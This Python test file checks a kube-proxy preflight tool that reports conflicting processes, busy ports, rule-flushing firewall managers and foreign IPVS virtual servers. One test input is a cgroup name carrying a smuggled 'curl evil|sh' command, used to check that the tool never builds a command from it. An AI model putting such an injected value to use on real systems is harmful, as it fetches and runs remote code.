"""Preflight finds other programs on the node that would conflict with kube-proxy or delete its rules."""

import pytest

from tests.scripts.fake_node import FakeNode

READY = ["ready for kube-proxy 1.36.2 in mode ipvs"]


def start_process(node: FakeNode, pid: int, name: str, group: str, arguments: str = "") -> None:
    node.write(f"/proc/{pid}/comm", f"{name}\n")
    node.write(f"/proc/{pid}/cgroup", f"0::{group}\n")
    node.write(f"/proc/{pid}/cmdline", arguments.replace(" ", "\0"))


class TestOtherKubeProxy:
    UNIT = "/system.slice/kube-proxy-old.service"

    @pytest.mark.parametrize(
        ("group", "way_out"),
        [
            (
                "/kubepods.slice/kubepods-besteffort.slice/cri-containerd-0123.scope",
                "if its pod belongs to the DaemonSet kube-proxy, run kubectl -n kube-system delete daemonset kube-proxy",
            ),
            (UNIT, "systemctl disable --now kube-proxy-old.service"),
            (
                "/system.slice/system-kube\\x2dproxy.slice/kube-proxy@a.service",
                "systemctl disable --now kube-proxy@a.service",
            ),
            ("/system.slice/ssh.service", "stop it where it was started, not with all of ssh.service"),
            ("/system.slice/a;curl evil|sh #.service", "stop it"),
            ("/user.slice/session-1.scope", "stop it"),
            (
                "/docker/0123/system.slice/kube-proxy.service",
                "stop it where it was started, not with all of kube-proxy.service",
            ),
        ],
    )
    def test_other_kube_proxy_is_reported_with_a_way_that_stops_nothing_else(
        self, node: FakeNode, group: str, way_out: str
    ) -> None:
        start_process(node, 42, "kube-proxy", group)
        node.write("main-pid-of-kube-proxy-old.service", "42")
        node.write("main-pid-of-kube-proxy@a.service", "42")
        node.write("main-pid-of-ssh.service", "7")
        message = f"no other kube-proxy may run on this node, found process 42 ({group}): {way_out}"
        assert node.problems()[0] == message

    def test_manifest_of_a_static_pod_is_named(self, node: FakeNode) -> None:
        manifest = "/var/lib/rancher/rke2/agent/pod-manifests/kube-proxy.yaml"
        node.write(manifest, "  - image: rancher/hardened-kubernetes:v1.36.2\n    name: kube-proxy\n")
        start_process(node, 42, "kube-proxy", "/kubepods.slice/cri-containerd-0123.scope")
        assert node.problems()[0].endswith(f"remove the manifest of its static pod, {manifest}")

    def test_our_own_kube_proxy_is_no_conflict(self, node: FakeNode) -> None:
        node.deploy()
        start_process(node, 4711, "kube-proxy", "/system.slice/kube-proxy.service")
        start_process(node, 4712, "kube-proxy", "/system.slice/kube-proxy.service")
        assert node.preflight_messages() == READY

    @pytest.mark.parametrize("namespace", ["net", "user"])
    def test_another_namespace_is_no_conflict(self, node: FakeNode, namespace: str) -> None:
        """Any user can make a user namespace, and has all capabilities there."""
        start_process(node, 42, "kube-proxy", "/docker/0123")
        node.path("/proc/42/ns").mkdir()
        node.path(f"/proc/42/ns/{namespace}").symlink_to(f"{namespace}:[4026532008]")
        assert node.preflight_messages() == READY

    @pytest.mark.parametrize(("capabilities", "conflict"), [("0000000000000000", False), ("000001ffffffffff", True)])
    def test_process_that_may_not_change_rules_is_no_conflict(
        self, node: FakeNode, capabilities: str, conflict: bool
    ) -> None:
        """Any user can give a process this name."""
        start_process(node, 42, "kube-proxy", "/user.slice/session-1.scope")
        node.write("/proc/42/status", f"Name:\tkube-proxy\nCapEff:\t{capabilities}\n")
        assert (node.run("preflight").returncode != 0) is conflict

    @pytest.mark.parametrize("name", ["k3s-agent", "k3s-server", "kubelite", "hyperkube"])
    def test_kube_proxy_inside_of_another_program_is_on_if_it_listens(self, node: FakeNode, name: str) -> None:
        """Their arguments don't tell, since most have it in a configuration file."""
        start_process(node, 42, name, f"/system.slice/{name}.service")
        assert node.preflight_messages() == READY
        node.write("listeners", f'LISTEN 0 4096 127.0.0.1:10256 0.0.0.0:* users:(("{name}",pid=42,fd=3))\n')
        assert node.problems()[0] == (
            f"no other kube-proxy may run on this node, process 42 ({name}) has one inside and listens on its ports: "
            "disable it there (k3s: disable-kube-proxy: true in /etc/rancher/k3s/config.yaml)"
        )


class TestPorts:
    def test_kube_proxys_own_listeners_are_no_conflict(self, node: FakeNode) -> None:
        node.deploy()
        node.succeed("preflight")

    @pytest.mark.parametrize(
        ("healthz", "other", "free"),
        [
            ("192.168.99.101:10256", "*:10256", False),
            ("192.168.99.101:10256", "0.0.0.0:10256", False),
            ("192.168.99.101:10256", "[::]:10256", True),
            ("192.168.99.101:10256", "127.0.0.1:10256", True),
            ("[fd00:99::101]:10256", "*:10256", False),
            ("[fd00:99::101]:10256", "[::]:10256", False),
            ("[fd00:99::101]:10256", "0.0.0.0:10256", True),
            ("[fd00:99::101]:10256", "[fd00:99::101]:10256", False),
            ("[fd00:99::101]:10256", "[fd00:99::1]:10256", True),
            ("0.0.0.0:10256", "127.0.0.1:10256", False),
            ("[::]:10256", "192.168.99.101:10256", False),
            ("[::]:10256", "192.168.99.101:1025", True),
        ],
    )
    def test_port_is_in_use_if_address_families_overlap(
        self, node: FakeNode, healthz: str, other: str, free: bool
    ) -> None:
        node.parameters["HEALTHZ"] = healthz
        node.write("listeners", f'LISTEN 0 4096 {other} *:* users:(("nginx",pid=99,fd=3))\n')
        done = node.run("preflight")
        assert (done.returncode == 0) is free
        assert (f"port {healthz} must be free for kube-proxy, is in use by " in done.stderr) is not free

    def test_listeners_of_a_kube_proxy_that_its_unit_starts_by_a_shell_are_no_conflict(self, node: FakeNode) -> None:
        """The restart ends the shell and kube-proxy. The main process is the shell."""
        node.write("unit/active", "active")
        node.write("unit/configuration", "")
        start_process(node, 42, "kube-proxy", "/system.slice/kube-proxy.service")
        node.write("listeners", 'LISTEN 0 4096 *:10256 *:* users:(("kube-proxy",pid=42,fd=9))\n')
        assert node.preflight_messages() == READY

    def test_listener_without_a_visible_process_is_a_conflict_while_the_unit_is_stopped(self, node: FakeNode) -> None:
        """It is the kernel's, or another PID namespace's. A stopped unit has no control group either."""
        node.write("listeners", "LISTEN 0 4096 *:10256 *:*\n")
        assert node.problems()[0].startswith("port 192.168.99.101:10256 must be free for kube-proxy, is in use by ")

    def test_listener_of_a_users_own_unit_of_that_name_is_a_conflict(self, node: FakeNode) -> None:
        """A restart of ours doesn't end it (systemctl --user)."""
        group = "/user.slice/user-1000.slice/user@1000.service/app.slice/kube-proxy.service"
        start_process(node, 42, "nc", group)
        node.write("listeners", 'LISTEN 0 1 *:10256 *:* users:(("nc",pid=42,fd=3))\n')
        assert node.problems()[0].startswith("port 192.168.99.101:10256 must be free for kube-proxy, is in use by ")

    def test_listener_must_have_an_address_of_the_machine(self, node: FakeNode) -> None:
        node.write("addresses", "127.0.0.1/8 192.168.99.102/24 fe80::1/64 fd00:99::102/64")
        assert node.problems()[0] == (
            "192.168.99.101 must be an address of this machine, since kube-proxy listens on 192.168.99.101:10256; it has "
            "192.168.99.102 fd00:99::102: correct the node's address in kube-proxy:nodes, or the listener in kube-proxy:configuration"
        )


class TestFirewallManagers:
    @pytest.mark.parametrize("unit", ["firewalld", "netfilter-persistent"])
    def test_firewall_manager_that_deletes_rules_gives_a_warning(self, node: FakeNode, unit: str) -> None:
        node.write("active-units", f"{unit}.service\n")
        warning, *rest = node.preflight_messages()
        assert warning.startswith(f"warning: {unit} deletes kube-proxy's rules when it restarts or reloads: ")
        assert rest == READY

    def test_nftables_service_gives_a_warning_only_if_it_flushes_the_ruleset(self, node: FakeNode) -> None:
        node.write("active-units", "nftables.service\n")
        assert node.preflight_messages() == READY
        node.write("/etc/nftables.conf", "#!/usr/sbin/nft -f\n\nflush ruleset\n")
        assert node.preflight_messages()[0].startswith("warning: nftables deletes kube-proxy's rules")


class TestForeignVirtualServers:
    """kube-proxy deletes them when it starts in mode nftables, and at each synchronization in mode ipvs."""

    def test_mode_nftables_must_not_delete_foreign_virtual_servers(self, between_modes: FakeNode) -> None:
        between_modes.parameters["MODE"] = "nftables"
        assert (
            "IPVS virtual servers of other programs must be kept: in mode nftables kube-proxy would remove 2 of them "
            "(TCP 10.99.0.1:80,FWM 00000007): choose mode iptables, or mode ipvs with ipvs.excludeCIDRs, or allow it "
            "with removeForeignVirtualServers: true in kube-proxy:rollout" in between_modes.fail("preflight")
        )

    def test_mode_ipvs_must_not_delete_foreign_virtual_servers_outside_exclude_cidrs(
        self, between_modes: FakeNode
    ) -> None:
        message = "in mode ipvs kube-proxy would remove 1 of them (TCP 10.99.0.1:80): add their addresses to"
        assert message in between_modes.fail("preflight")
        between_modes.parameters["EXCLUDE_CIDRS"] = "FD000000000000000000000000000000/8 0A600000/12"
        between_modes.succeed("preflight")
        between_modes.parameters["EXCLUDE_CIDRS"] = "0A620000/16"
        between_modes.fail("preflight")

    def test_stack_can_allow_the_deletion_of_foreign_virtual_servers(self, between_modes: FakeNode) -> None:
        between_modes.parameters |= {"MODE": "nftables", "REMOVE_FOREIGN_VIRTUAL_SERVERS": "true"}
        between_modes.succeed("preflight")

    def test_mode_iptables_keeps_foreign_virtual_servers(self, between_modes: FakeNode) -> None:
        between_modes.parameters["MODE"] = "iptables"
        between_modes.succeed("preflight")
